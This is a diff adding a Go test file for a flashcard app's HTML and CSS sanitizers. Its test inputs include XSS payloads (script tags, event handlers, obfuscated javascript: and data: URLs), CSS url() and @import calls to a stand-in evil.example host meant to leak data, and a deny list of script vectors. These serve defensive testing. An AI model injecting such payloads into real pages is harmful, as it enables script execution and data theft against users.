@@ -0,0 +1,147 @@
+package main
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// openTestCollection opens a new, empty collection for a test.
+func openTestCollection(t *testing.T) *Collection {
+	t.Helper()
+	dir := t.TempDir()
+	db, err := OpenCollection(filepath.Join(dir, "collection.db"), filepath.Join(dir, "media"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { db.Close() })
+	return db
+}
+
+// scriptVectors are what must not be left in sanitized card HTML.
+var scriptVectors = []string{"<script", "onerror", "onload", "onclick", "javascript:", "data:", "<iframe", "<object", "<embed", "<svg", "<style", "<link", "<meta", "<form"}
+
+func assertNoScript(t *testing.T, html string) {
+	t.Helper()
+	lower := strings.ToLower(html)
+	for _, v := range scriptVectors {
+		if strings.Contains(lower, v) {
+			t.Errorf("%q left in %q", v, html)
+		}
+	}
+}
+
+func TestSanitizeCardHTML(t *testing.T) {
+	tests := []struct {
+		name, in, want string
+	}{
+		{"formatting kept", `<b>bold</b> <em>em</em><br>`, `<b>bold</b> <em>em</em><br>`},
+		{"answer marker kept", `<hr id="answer">`, `<hr id="answer">`},
+		{"other ids dropped", `<div id="card-css">x</div>`, `<div>x</div>`},
+		{"media kept", `<img src="/media/a.png" alt=""><audio controls src="/media/b.mp3"></audio>`, `<img src="/media/a.png" alt=""><audio controls="" src="/media/b.mp3"></audio>`},
+		{"link kept", `<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>`, `<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>`},
+		{"mask position kept", `<div class="io-mask" style="left: 10.0000%; top: 5%;"></div>`, `<div class="io-mask" style="left: 10.0000%; top: 5%"></div>`},
+		{"script dropped", `a<script>alert(1)</script>b`, `ab`},
+		{"event handler dropped", `<img src=x onerror=alert(1)>`, `<img src="x">`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := sanitizeCardHTML(tt.in); got != tt.want {
+				t.Errorf("sanitizeCardHTML(%q) = %q, want %q", tt.in, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSanitizeCardHTMLPayloads(t *testing.T) {
+	payloads := []string{
+		`<script>alert(1)</script>`,
+		`<img src=x onerror="alert(1)">`,
+		`<IMG SRC=x OnError=alert(1)>`,
+		`<svg onload=alert(1)>`,
+		`<svg><script>alert(1)</script></svg>`,
+		`<a href="javascript:alert(1)">x</a>`,
+		`<a href="JaVaScRiPt:alert(1)">x</a>`,
+		`<a href="&#106;avascript:alert(1)">x</a>`,
+		`<a href="java&#x09;script:alert(1)">x</a>`,
+		`<a href=" javascript:alert(1)">x</a>`,
+		`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
+		`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
+		`<iframe src="https://evil.example"></iframe>`,
+		`<object data="x"></object><embed src="x">`,
+		`<div style="background:url(javascript:alert(1))">x</div>`,
+		`<style>body{display:none}</style>`,
+		`<link rel="stylesheet" href="https://evil.example/x.css">`,
+		`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
+		`<form action="https://evil.example"><input></form>`,
+		`<img src=x onerror=alert(1)`,
+		`<b onclick="alert(1)">unclosed`,
+		`<scr<script>ipt>alert(1)</script>`,
+	}
+	for _, p := range payloads {
+		assertNoScript(t, sanitizeCardHTML(p))
+	}
+}
+
+func TestSanitizeCardCSS(t *testing.T) {
+	tests := []struct {
+		name, in, want string
+	}{
+		{"card rule kept", `.card { color: red; }`, ".card {\n  color: red;\n}"},
+		{"other selectors scoped", `body, .cards b { color: red }`, ".card body, .card .cards b {\n  color: red;\n}"},
+		{"card descendants kept", `.card.night b, .card:hover { color: red }`, ".card.night b, .card:hover {\n  color: red;\n}"},
+		{"import dropped", `@import url(https://evil.example/x.css); .card { color: red }`, ".card {\n  color: red;\n}"},
+		{"at-rules dropped", `@media (min-width: 1px) { body { color: red } } @font-face { src: url(x) }`, ""},
+		{"url dropped", `.card { background: url(https://evil.example/leak); color: red }`, ".card {\n  color: red;\n}"},
+		{"escaped url dropped", `.card { background: u\72l(https://evil.example/leak) }`, ""},
+		{"expression dropped", `.card { width: expression(alert(1)) }`, ""},
+		{"fixed dropped", `.card { position: fixed; inset: 0 }`, ".card {\n  inset: 0;\n}"},
+		{"comments dropped", `/* } body { */ .card { color: red }`, ".card {\n  color: red;\n}"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := sanitizeCardCSS(tt.in); got != tt.want {
+				t.Errorf("sanitizeCardCSS(%q) = %q, want %q", tt.in, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestRenderCardSanitizesTemplates(t *testing.T) {
+	db := openTestCollection(t)
+	nt := &NoteType{
+		Name:   "Evil",
+		Fields: []string{"Front", "Back"},
+		Templates: []CardTemplate{{
+			Name:      "Card 1",
+			Front:     "{{Front}}",
+			Back:      "{{Back}}",
+			FrontHTML: `<img src=x onerror=alert(1)>{{Front}}<script>alert(2)</script>`,
+			BackHTML:  `{{FrontSide}}<hr id="answer"><a href="javascript:alert(3)">{{Back}}</a><svg onload=alert(4)></svg>`,
+		}},
+		CSS: `@import url(https://evil.example/x.css); body { background: url(https://evil.example/leak) } .card { color: red }`,
+	}
+	if err := CreateNoteType(db, nt); err != nil {
+		t.Fatal(err)
+	}
+	note := &Note{NoteType: "Evil", Fields: map[string]string{"Front": "question", "Back": "answer"}}
+	if err := CreateNote(db, note, "Default", nil); err != nil {
+		t.Fatal(err)
+	}
+
+	rendered, err := RenderCard(db, note.Cards[0].ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertNoScript(t, rendered.Front)
+	assertNoScript(t, rendered.Back)
+	if !strings.Contains(rendered.Front, "question") || !strings.Contains(rendered.Back, "answer") {
+		t.Errorf("fields lost in %q / %q", rendered.Front, rendered.Back)
+	}
+	if strings.Contains(rendered.CSS, "evil.example") || strings.Contains(rendered.CSS, "@import") {
+		t.Errorf("CSS not sanitized: %q", rendered.CSS)
+	}
+	if !strings.Contains(rendered.CSS, ".card {\n  color: red;\n}") {
+		t.Errorf("card CSS lost: %q", rendered.CSS)
+	}
+}